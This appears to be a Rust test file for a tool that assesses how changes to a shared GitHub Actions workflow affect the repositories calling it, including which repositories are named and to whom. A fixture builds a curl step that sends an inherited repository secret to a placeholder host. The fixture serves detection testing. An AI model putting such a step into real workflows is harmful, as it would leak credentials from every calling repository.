//! What a change does to workflows of other repositories: who is named where, and what a yes binds to.

use beholden::domain::{Caller, Foreign, Lines, Reached, RepoId, Severity, Visibility, Weighed};
use beholden::power::{self, Ground, Remote, Tree};
use beholden::rules::files::{reach, weigh};

const CALLER: &str = "on: push\npermissions: {}\njobs:\n  build:\n    uses: acme/shared/.github/workflows/deploy.yml@main\n    secrets: inherit\n";

const BEFORE: &str = "on: workflow_call\npermissions: {}\njobs: {deploy: {runs-on: ubuntu-latest, steps: [{run: make}]}}\n";

fn sending(host: &str) -> String {
    BEFORE.replace("run: make", &format!("run: 'curl -d ${{{{ secrets.KEY }}}} https://{host}/'"))
}

/// What a repository's workflow is granted more when the file that it calls becomes this.
fn difference(after: &str) -> Weighed {
    let remote = Remote {
        repo: "acme/shared".parse().unwrap(),
        reference: "main".into(),
        path: ".github/workflows/deploy.yml".to_owned(),
    };
    let ground = Ground { repo: Some("acme/any".parse().unwrap()), ..Ground::default() };
    let key = remote.key();
    let of = |callee: &str| {
        let files = [(".github/workflows/ci.yml", CALLER), (key.as_str(), callee)];
        power::of(&files.into_iter().collect::<Tree>(), &ground)
    };
    weigh(&of(BEFORE), &of(after), &[])
}

fn caller(number: i64, visibility: Visibility, after: &str) -> Caller {
    let name = format!("acme/caller-{number}").parse().unwrap();
    Caller { repo: RepoId(number), name, visibility, weighed: difference(after) }
}

fn told(callers: Vec<Caller>, unread: usize, read: Visibility) -> Weighed {
    let mut weighed = difference(BEFORE);
    let lines = Lines { path: Foreign::new(".github/workflows/deploy.yml"), first: 3, last: 3 };
    reach(&mut weighed, &Reached { callers, unread }, &lines, read);
    weighed
}

fn message(weighed: &Weighed) -> &str {
    &weighed.grants[0].remarks[0].message
}

#[test]
fn a_caller_is_named_only_where_everybody_who_reads_may_know_of_it() {
    use Visibility::{Internal, Private, Public};
    for (own, read, named) in [
        (Public, Public, true),
        (Public, Internal, true),
        (Public, Private, true),
        (Internal, Public, false),
        (Internal, Internal, true),
        (Internal, Private, true),
        (Private, Public, false),
        (Private, Internal, false),
        (Private, Private, false),
    ] {
        let weighed = told(vec![caller(1, own, &sending("up.acme.invalid"))], 0, read);
        let said = message(&weighed);
        assert_eq!(said.contains("caller-1"), named, "{own:?} read by {read:?}: {said}");
        assert_eq!(said.contains("KEY"), named, "{own:?} read by {read:?}: {said}");
        assert_eq!(said.contains("1 private repository"), !named, "{said}");
    }
}

#[test]
fn one_row_says_whom_it_reaches_and_a_yes_binds_to_each() {
    let (one, other) = (sending("up.acme.invalid"), sending("other.acme.invalid"));
    let both = vec![caller(1, Visibility::Public, &one), caller(2, Visibility::Private, &one)];
    let weighed = told(both.clone(), 0, Visibility::Public);
    assert_eq!(weighed.grants.len(), 1);
    let grant = &weighed.grants[0];
    assert!(grant.subject.is_for_callers());
    assert_eq!(grant.remarks[0].severity, Severity::High);
    let said = message(&weighed);
    assert!(said.contains("`acme/caller-1`") && said.contains("1 private repository"), "{said}");
    assert!(said.contains("up.acme.invalid"), "{said}");
    let turned = told(both.into_iter().rev().collect(), 0, Visibility::Public);
    assert_eq!(turned.grants[0].power.digest, grant.power.digest, "order plays no part");
    let fewer = told(vec![caller(1, Visibility::Public, &one)], 0, Visibility::Public);
    assert_ne!(fewer.grants[0].power.digest, grant.power.digest, "another one is another power");
    let elsewhere = vec![caller(1, Visibility::Public, &other)];
    let elsewhere = told(elsewhere, 0, Visibility::Public);
    assert_ne!(elsewhere.grants[0].power.digest, fewer.grants[0].power.digest);
}

#[test]
fn what_grants_no_more_asks_nothing_and_what_was_not_looked_at_is_said() {
    let quiet = told(vec![caller(1, Visibility::Public, BEFORE)], 0, Visibility::Public);
    assert_eq!((quiet.grants.len(), quiet.unclear.len()), (0, 0));
    let cut = told(Vec::new(), 7, Visibility::Private);
    assert!(cut.grants.is_empty());
    assert!(cut.unclear[0].why.raw().contains("7 more repositories"), "{:?}", cut.unclear);
}
